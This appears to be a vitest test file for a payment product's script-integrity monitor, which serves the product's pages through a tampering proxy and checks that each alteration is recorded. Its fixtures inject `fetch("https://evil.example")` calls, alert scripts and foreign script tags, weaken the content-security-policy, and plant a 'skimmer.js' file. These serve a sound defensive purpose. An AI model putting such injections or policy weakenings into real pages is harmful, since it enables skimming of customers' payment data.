import { appendFileSync, cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
import { checkInvariants, invariantOf } from '#lib/modules/ledger/index.ts';
import { readSettings, settings, useSettings } from '#lib/platform/env.ts';
import { nodeAdapter } from '#lib/platform/http/node-adapter.ts';
import { publicFiles } from '#lib/platform/http/public-files.ts';
import type { Job } from '#lib/platform/queue/jobs.ts';
import { testDatabase } from '#lib/testing/database.ts';
import { checkOwnScripts } from './check-own-scripts.ts';
import { pageHandlers } from './handlers/page-handlers.ts';

/** B-08: the product’s own documents over HTTP, through a proxy that changes their content. */

const base = testDatabase();

/** Body and headers of one address, changed on their way. */
type Tamper = (answer: { status: number; body: string; headers: Headers }) => void;
const none = new Map<string, Tamper>();
let tampers: ReadonlyMap<string, Tamper> = none;

let [own, between]: Server[] = [];
let folder: string;
let job: Job;
let origin: string;

async function listen(
  answer: (incoming: IncomingMessage, outgoing: ServerResponse) => void,
): Promise<[Server, string]> {
  const server = createServer(answer).listen(0, '127.0.0.1');
  await new Promise((resolve) => server.once('listening', resolve));
  return [server, `http://127.0.0.1:${(server.address() as AddressInfo).port}`];
}

beforeAll(async () => {
  useSettings(
    readSettings({
      ...base.environment,
      BANK_URL: 'http://127.0.0.1:9',
      APP_URL: 'http://localhost:3000',
      LOG_LEVEL: 'silent',
    }),
  );
  const adapter = nodeAdapter([...pageHandlers, ...publicFiles()], 'http://localhost:3000');
  let address: string;
  [own, address] = await listen(
    (incoming, outgoing) => void (adapter(incoming, outgoing, '127.0.0.1') || outgoing.writeHead(404).end()),
  );
  [between, origin] = await listen(async (incoming, outgoing) => {
    const response = await fetch(address + incoming.url);
    const answer = { status: response.status, body: await response.text(), headers: new Headers(response.headers) };
    tampers.get(incoming.url ?? '')?.(answer);
    for (const name of ['content-length', 'content-encoding']) answer.headers.delete(name);
    outgoing.writeHead(answer.status, Object.fromEntries(answer.headers)).end(answer.body);
  });
  folder = mkdtempSync(join(tmpdir(), 'scripts-'));
  cpSync('dist/payment-page', folder, { recursive: true });
  job = checkOwnScripts({ database: base.db, origin, folder, isProduction: false });
});
afterEach(() => {
  tampers = none;
});
afterAll(() => {
  rmSync(folder, { recursive: true });
  for (const server of [own, between]) {
    server?.closeAllConnections();
    server?.close();
  }
});

/** Counts of the status page and the metrics, after the minute’s check of everything else. */
async function onRecord(everything = false): Promise<string[]> {
  const { broken } = await checkInvariants(base.db, { everything });
  return broken.filter((one) => invariantOf(one) === 'B08').map(({ what }) => what);
}

const policy =
  (from: string | RegExp, to: string): Tamper =>
  ({ headers }) =>
    headers.set('content-security-policy', (headers.get('content-security-policy') ?? '').replace(from, to));
const page = '/sale/generate/none';
const body =
  (change: (was: string) => string): Tamper =>
  (answer) =>
    void Object.assign(answer, { body: change(answer.body) });
const inBody =
  (from: string, to: string): Tamper =>
  (answer) => {
    if (!answer.body.includes(from)) throw new Error(`no ${from}`);
    answer.body = answer.body.replace(from, () => to);
  };

const TAMPERS: [string, string, Tamper, RegExp][] = [
  [
    'code after the loader of shops',
    '/embed/v1/kupa.js',
    body((was) => `${was};fetch("https://evil.example")`),
    /^\/embed\/v1\/kupa\.js kupa\.js changed$/,
  ],
  [
    'code after a release that shops have pinned',
    '/embed/1.0.0/kupa.js',
    body((was) => `${was};fetch("https://evil.example")`),
    /^\/embed\/1\.0\.0\/kupa\.js changed$/,
  ],
  [
    'a release that is not there any more',
    '/embed/1.0.0/kupa.js',
    (answer) => void Object.assign(answer, { status: 404 }),
    /^\/embed\/1\.0\.0\/kupa\.js changed$/,
  ],
  [
    'code before the frame’s half',
    '/embed/v1/frame.js',
    body((was) => `fetch("https://evil.example");${was}`),
    /frame\.js changed$/,
  ],
  [
    'code among the texts of a part',
    '/sale/part/bit/en/newest',
    body((was) => was.replace('={', '={"x":fetch("https://evil.example"),')),
    /part-bit\.js changed$/,
  ],
  ['another part in its place', '/sale/part/wallet/en/newest', body(() => 'alert(1)'), /part-wallet\.js changed$/],
  [
    'a script that is not there',
    '/sale/part/debit/en/newest',
    (answer) => void Object.assign(answer, { status: 404 }),
    /part-debit\.js missing$/,
  ],
  ['a script more in the page', page, inBody('</body>', '<script>alert(1)</script></body>'), /none extra \S{12}$/],
  [
    'a script of another origin in the page',
    page,
    inBody('</body>', '<script src="https://evil.example/embed/v1/frame.js"></script></body>'),
    /none extra \S{12}$/,
  ],
  [
    'a known script twice in the page',
    page,
    inBody('</body>', '<script src="/embed/v1/frame.js"></script></body>'),
    /none extra \S{12}$/,
  ],
  [
    'the page without its frame’s half',
    page,
    body((was) => was.replace(/<script[^>]*src=[^>]*><\/script>/, '')),
    /none frame\.js missing$/,
  ],
  [
    'no policy',
    page,
    ({ headers }) => headers.delete('content-security-policy'),
    /content-security-policy script-src$/,
  ],
  [
    'a policy that lets inline scripts run',
    page,
    policy(/script-src [^;]*/, "$& 'unsafe-inline'"),
    /content-security-policy script-src$/,
  ],
  [
    'a policy that lets another origin in',
    page,
    policy(/script-src [^;]*/, '$& https://evil.example'),
    /content-security-policy script-src$/,
  ],
  [
    'a policy with a second rule for elements',
    page,
    policy(/$/, '; script-src-elem *'),
    /content-security-policy script-src$/,
  ],
  [
    'a policy that lets the base address move',
    page,
    policy("base-uri 'none'", 'base-uri *'),
    /content-security-policy base-uri$/,
  ],
  [
    'a script whose type may be guessed',
    '/embed/v1/kupa.js',
    ({ headers }) => headers.delete('x-content-type-options'),
    /kupa\.js x-content-type-options$/,
  ],
  [
    'a page whose type may be guessed',
    page,
    ({ headers }) => headers.delete('x-content-type-options'),
    /none x-content-type-options$/,
  ],
];

test('B-08: as it was built, the product finds nothing', async () => {
  await job.run();
  expect(await onRecord()).toEqual([]);
});

test('B-08: neither does it in production, where a script of the sandbox is one more', async () => {
  const sandbox = settings();
  useSettings({ ...sandbox, isProduction: true });
  const inProduction = checkOwnScripts({ database: base.db, origin, folder, isProduction: true });
  try {
    await inProduction.run();
    expect(await onRecord()).toEqual([]);
  } finally {
    useSettings(sandbox);
  }
  await inProduction.run();
  expect((await onRecord()).filter((what) => / extra \S{12}$/.test(what))).toHaveLength(3);
  await job.run();
  expect(await onRecord()).toEqual([]);
});

test.each(TAMPERS)(
  'B-08: %s is on record after one run, and in order after the next',
  async (_, path, tamper, wanted) => {
    tampers = new Map([[path, tamper]]);
    await job.run();
    const found = await onRecord();
    expect(found.filter((what) => wanted.test(what))).toHaveLength(1);
    expect(found.every((what) => what.startsWith(path))).toBe(true);
    tampers = none;
    await job.run();
    expect(await onRecord()).toEqual([]);
  },
);

test('B-08: one nonce for every document is no nonce', async () => {
  const fixed = policy(/'nonce-[^']+'/, "'nonce-AAAAAAAAAAAAAAAAAAAAAA=='");
  tampers = new Map([
    [page, fixed],
    ['/sale/template/none', fixed],
  ]);
  await job.run();
  expect(await onRecord()).toEqual(['/sale/template/none content-security-policy script-src']);
});

test.each([
  ['changed', 'card.js', () => appendFileSync(join(folder, 'card.js'), ';')],
  ['missing', 'receipt.js', () => rmSync(join(folder, 'receipt.js'))],
  ['extra', 'skimmer.js', () => writeFileSync(join(folder, 'skimmer.js'), '')],
])(
  'B-08: a built file that is %s is found, an inventory that was changed with it does not hide it',
  async (how, name, change) => {
    change();
    writeFileSync(join(folder, 'scripts.json'), '[]');
    await job.run();
    expect(await onRecord()).toEqual([`file ${name} ${how}`]);
    rmSync(folder, { recursive: true });
    cpSync('dist/payment-page', folder, { recursive: true });
    await job.run();
    expect(await onRecord()).toEqual([]);
  },
);

test('B-08: no other check says that it is in order, and a product that does not answer says nothing of it', async () => {
  tampers = new Map([['/embed/v1/kupa.js', body(() => '')]]);
  await job.run();
  const found = ['/embed/v1/kupa.js kupa.js changed'];
  expect([await onRecord(), await onRecord(true)]).toEqual([found, found]);
  const away = checkOwnScripts({ database: base.db, origin: 'http://127.0.0.1:9', folder, isProduction: false });
  await expect(away.run()).rejects.toThrow();
  expect(await onRecord()).toEqual(found);
  tampers = none;
  await job.run();
  expect(await onRecord(true)).toEqual([]);
});
